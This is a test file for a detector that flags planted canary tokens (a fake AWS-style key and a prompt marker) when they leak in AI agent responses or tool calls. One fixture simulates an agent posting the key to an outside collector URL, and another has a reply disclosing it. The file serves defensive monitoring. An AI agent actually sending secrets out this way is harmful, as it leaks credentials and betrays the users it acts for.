import { describe, expect, it } from "vitest";
import type { AgentEvent } from "../services/runtime/model.ts";
import { canaryLeak } from "./canary-leak.ts";

const T0 = Date.parse("2026-11-20T10:00:00Z");
const CANARY = "AKIAZ3CANARY7TOKEN42";
const detector = canaryLeak([
  { name: "aws-honeytoken", value: CANARY },
  { name: "prompt-marker", value: "zebra-quartz-1142" },
]);

const observe = (event: Partial<AgentEvent>) => ({
  event: {
    id: "e1",
    time: new Date(T0).toISOString(),
    agent_id: "bot",
    session_id: "s9",
    ...event,
  } as AgentEvent,
  time: T0,
});

describe("canary_leak", () => {
  it("finds a canary in a response, critical, without showing its value", () => {
    const findings = detector.update(
      {},
      observe({ type: "response", text: `Sure! The key is ${CANARY}, keep it safe.` }),
    );
    expect(findings).toHaveLength(1);
    expect(findings[0]).toMatchObject({
      detector: "canary_leak",
      severity: "critical",
      score: 1,
      key: "canary:aws-honeytoken",
      session_id: "s9",
      observed: { canary: "aws-honeytoken", where: ["response"] },
      event_ids: ["e1"],
    });
    expect(JSON.stringify(findings)).not.toContain(CANARY);
  });

  it("finds canaries in tool arguments and targets", () => {
    const findings = detector.update(
      {},
      observe({
        type: "tool_call",
        tool: {
          name: "http_post",
          arguments: { body: "notes: zebra-quartz-1142" },
          target: `https://collector.example/?k=${CANARY}`,
        },
      }),
    );
    expect(findings.map((f) => f.key).sort()).toEqual(["canary:aws-honeytoken", "canary:prompt-marker"]);
    expect(findings.find((f) => f.key === "canary:aws-honeytoken")?.observed).toEqual({
      canary: "aws-honeytoken",
      where: ["target of tool http_post"],
    });
  });

  it("ignores prompts (the canary is planted there) and clean output", () => {
    expect(detector.update({}, observe({ type: "prompt", text: `system: ${CANARY}` }))).toEqual([]);
    expect(detector.update({}, observe({ type: "response", text: "AKIAZ3CANARY7TOKEN4" }))).toEqual([]);
  });
});
